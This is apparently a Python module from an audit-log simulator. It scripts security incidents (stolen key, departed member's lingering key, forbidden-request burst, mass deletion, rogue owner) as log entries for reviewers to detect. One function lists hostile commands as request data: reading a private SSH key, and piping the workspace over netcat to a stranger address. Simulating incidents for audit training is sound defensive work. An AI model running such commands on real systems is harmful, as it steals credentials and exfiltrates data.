"""Security incidents, each a story that a reviewer can find in the log."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from audit_core.simulator.activity import operations
from audit_core.simulator.activity.adjustments import open_ssh
from audit_core.simulator.activity.failures import OUTAGE_ANSWERS
from audit_core.simulator.activity.operations import MINUTE, SANDBOX
from audit_core.simulator.activity.sandboxes import Sandbox, SandboxState
from audit_core.simulator.actors import BARE, COMMAND_LINE, DASHBOARDS, PYTHON, Actor
from audit_core.simulator.journal import moment
from audit_core.simulator.organizations import KESTREL, LUMEN, MERIDIAN, stable_id
from audit_core.simulator.truth import Incident
from audit_core.simulator.world import Estate, Process, Reply, World

DEPARTED = MERIDIAN.person("Peter Novák")
"""Leaves early in the simulated time, but a key of his stays active."""

STOLEN = MERIDIAN.key("release-bot")

STRANGER_ADDRESS = "203.0.113.77"

OUTAGE = "outage"


def outage_incident() -> Incident:
    """The story of the outage; the requests that met it are added as they happen."""
    return Incident(
        name=OUTAGE,
        story="For about an hour most requests of every organization got a 5xx answer.",
        organization_id=None,
        actor_id=None,
    )


def outage_retries(world: World, incident: Incident, length_s: float) -> Process:
    """The builds of all organizations ask again and again while the platform is down."""
    random = world.random
    rounds = 10
    for _ in range(rounds):
        for estate in world.estates:
            key = world.pick(estate.organization.keys)
            status, message = world.pick(OUTAGE_ANSWERS)
            reply = world.request(
                estate,
                key.actor,
                "create",
                SANDBOX,
                None,
                status=status,
                message=message,
                metadata={"body": {"name": operations.new_name(world)}},
            )
            incident.add(reply.entry_id, moment(world.now))
            yield length_s / rounds / 3.2 * (0.5 + random.random() / 2)


class _Story:
    """Writes requests of one incident and keeps their ids."""

    def __init__(self, world: World, estate: Estate, incident: Incident) -> None:
        self.world = world
        self.estate = estate
        self.incident = world.begin_story(incident)

    def keep(self, reply: Reply) -> Reply:
        """Adds the entry of a reply to the incident."""
        self.incident.add(reply.entry_id, moment(self.world.now))
        return reply

    def request(
        self,
        actor: Actor,
        action: str,
        target_type: str,
        target_id: str | None,
        *,
        status: int = 200,
        message: str | None = None,
        metadata: dict[str, object] | None = None,
    ) -> Reply:
        """Makes a request that belongs to the incident."""
        return self.keep(
            self.world.request(
                self.estate,
                actor,
                action,
                target_type,
                target_id,
                status=status,
                message=message,
                metadata=metadata,
            )
        )


def _living(estate: Estate, limit: int) -> Iterator[Sandbox]:
    """Up to `limit` sandboxes as they stand now; those gone meanwhile are left out."""
    for sandbox in tuple(estate.sandboxes[:limit]):
        if not sandbox.is_in(SandboxState.DELETED):
            yield sandbox


def stolen_key(world: World) -> Process:
    """At night a key is used from an address never seen before."""
    estate = world.estate(MERIDIAN)
    thief = STOLEN.actor.at(STRANGER_ADDRESS).using(BARE)
    story = _Story(
        world,
        estate,
        Incident(
            name="stolen_key",
            story=f"The key {STOLEN.name} of {MERIDIAN.name} was used at night from the new "
            f"address {STRANGER_ADDRESS}: it opened SSH access, ran commands that read secrets, "
            "and deleted three snapshots, so that sandboxes from them could not be created for "
            "hours.",
            organization_id=MERIDIAN.id,
            actor_id=thief.id,
        ),
    )
    for sandbox in _living(estate, 25):
        if sandbox.is_in(SandboxState.FAILED):
            continue
        story.request(thief, "read", SANDBOX, sandbox.id)
        yield 1 + 3 * world.random.random()
    opened = 0
    for sandbox in _living(estate, 60):
        if opened == 5 or sandbox.busy or sandbox.is_in(SandboxState.FAILED):
            continue
        opened += 1
        sandbox.busy = True
        yield from _break_in(world, story, thief, sandbox)
        sandbox.busy = False
    for snapshot in MERIDIAN.snapshots[1:4]:
        story.request(thief, "delete", "snapshot", snapshot)
        world.conditions.missing_snapshots[snapshot] = (world.now, world.now + 6 * 3600)
        yield 5 + 10 * world.random.random()
    yield 6 * 3600.0
    admin = MERIDIAN.people[1].office[0]
    for snapshot in MERIDIAN.snapshots[1:4]:
        story.request(admin, "create", "snapshot", snapshot, metadata={"body": {"name": snapshot}})
        yield 20.0


def _break_in(world: World, story: _Story, thief: Actor, sandbox: Sandbox) -> Process:
    estate = story.estate
    if not sandbox.is_in(SandboxState.STARTED):
        reply = story.keep(operations.start(world, estate, thief, sandbox))
        yield reply.duration_s + 2
    if not sandbox.is_in(SandboxState.STARTED):
        return
    story.keep(open_ssh(world, estate, thief, sandbox))
    yield 4.0
    for command in (
        "env | sort",
        "cat ~/.ssh/id_ed25519",
        "tar czf - /workspace | nc 203.0.113.77 9",
    ):
        if not sandbox.is_in(SandboxState.STARTED):
            return
        story.request(
            thief,
            "toolbox_execute_command",
            SANDBOX,
            sandbox.id,
            metadata={"body": {"command": command, "cwd": "/", "timeout": 60}},
        )
        sandbox.used_at = world.now
        yield 6 + 9 * world.random.random()


def departed_member(world: World, days: float) -> Process:
    """A member is removed, but a key of his works on, until somebody notices."""
    estate = world.estate(MERIDIAN)
    admin = MERIDIAN.people[0].office[0]
    prefix, suffix = DEPARTED.office[1].key_prefix, DEPARTED.office[1].key_suffix
    ghost = replace(
        DEPARTED.office[0].at(DEPARTED.home_address).using(COMMAND_LINE),
        key_prefix=prefix,
        key_suffix=suffix,
    )
    story = _Story(
        world,
        estate,
        Incident(
            name="departed_member",
            story=f"{DEPARTED.name} was removed from {MERIDIAN.name}, but an API key of his "
            "stayed active and was used again and again until an admin deleted it.",
            organization_id=MERIDIAN.id,
            actor_id=ghost.id,
        ),
    )
    story.request(admin, "delete", "organization_user", DEPARTED.id, status=204)
    world.departed.add(DEPARTED.id)
    visits = 6
    for _ in range(visits):
        yield days * 86400 * 0.4 / visits * (0.8 + 0.4 * world.random.random())
        sandbox = world.pick_sandbox(estate, lambda one: one.is_in(SandboxState.STARTED))
        for _ in range(3):
            if sandbox is None or not sandbox.is_in(SandboxState.STARTED):
                break
            story.keep(
                operations.use_toolbox(world, estate, ghost, sandbox, "toolbox_download_file")
            )
            yield 8 + 20 * world.random.random()
        story.request(ghost, "read", "volume", stable_id("meridian", "volume", "3"))
    yield 3600.0
    key_id = stable_id("meridian", "api_key", DEPARTED.name)
    story.request(admin, "delete", "api_key", key_id, status=204)


def forbidden_burst(world: World) -> Process:
    """A member tries one door after the other."""
    estate = world.estate(LUMEN)
    person = LUMEN.person("Marek Dvořák")
    actor = person.office[1].using(BARE)
    story = _Story(
        world,
        estate,
        Incident(
            name="forbidden_burst",
            story=f"{person.name} of {LUMEN.name} got 42 refusals (403) within minutes: roles, "
            "keys, quotas and secrets of the organization were tried one after the other.",
            organization_id=LUMEN.id,
            actor_id=actor.id,
        ),
    )
    doors = (
        ("update_role", "organization_user"),
        ("update_access", "organization_user"),
        ("delete", "api_key"),
        ("update_quota", "organization"),
        ("update_secrets", "secret"),
        ("regenerate_proxy_api_key", "region"),
    )
    for number in range(42):
        action, target_type = doors[number % len(doors)]
        target_id = stable_id("lumen", target_type, str(number % 12))
        story.request(actor, action, target_type, target_id, status=403, message="Unauthorized")
        yield 2 + 9 * world.random.random()


def mass_delete(world: World) -> Process:
    """A cleaning script with a wrong filter deletes what others need."""
    estate = world.estate(MERIDIAN)
    person = MERIDIAN.person("Owen Price")
    actor = person.office[1].using(PYTHON)
    story = _Story(
        world,
        estate,
        Incident(
            name="mass_delete",
            story=f"A script of {person.name} in {MERIDIAN.name} deleted up to 40 sandboxes of "
            "other people, and their volumes, within a few minutes.",
            organization_id=MERIDIAN.id,
            actor_id=actor.id,
        ),
    )
    for sandbox in _living(estate, 40):
        story.keep(operations.delete(world, estate, actor, sandbox))
        yield 0.6 + 3 * world.random.random()
    for number in range(8):
        volume_id = stable_id("meridian", "volume", str(number))
        story.request(actor, "delete", "volume", volume_id)
        yield 0.6 + 3 * world.random.random()


def brief_admin(world: World) -> Process:
    """Somebody unknown is let in, made an owner, takes a key with all rights, and vanishes."""
    estate = world.estate(KESTREL)
    admin = KESTREL.person("Noah Brooks").office[0].at("203.0.113.140")
    guest = Actor(
        id=stable_id("kestrel", "guest"),
        email="n.brooks.backup@mail.example",
        ip_address="203.0.113.140",
    ).using(DASHBOARDS[3])
    invitation_id = stable_id("kestrel", "organization_invitation", "guest")
    story = _Story(
        world,
        estate,
        Incident(
            name="brief_admin",
            story=f"At night an account outside {KESTREL.name} was invited, made an owner, made "
            "an API key with every permission, and was removed again within the hour; the key "
            "stayed. The admin's session came from the same new address.",
            organization_id=KESTREL.id,
            actor_id=guest.id,
        ),
    )
    invitation = {"email": guest.email, "role": "member"}
    story.request(
        admin, "create", "organization_invitation", invitation_id, metadata={"body": invitation}
    )
    yield 2 * MINUTE
    story.request(guest, "accept", "organization_invitation", invitation_id)
    yield 3 * MINUTE
    story.request(
        admin, "update_access", "organization_user", guest.id, metadata={"body": {"role": "owner"}}
    )
    yield 2 * MINUTE
    permissions = ["write:sandboxes", "delete:sandboxes", "manage:organization", "read:audit_logs"]
    key = {"name": "backup", "permissions": permissions, "expiresAt": None}
    key_id = stable_id("kestrel", "api_key", "backup")
    story.request(guest, "create", "api_key", key_id, status=201, metadata={"body": key})
    yield 20 * MINUTE
    for volume in range(3):
        story.request(guest, "read", "volume", stable_id("kestrel", "volume", str(volume)))
        yield 30.0
    story.request(admin, "delete", "organization_user", guest.id, status=204)
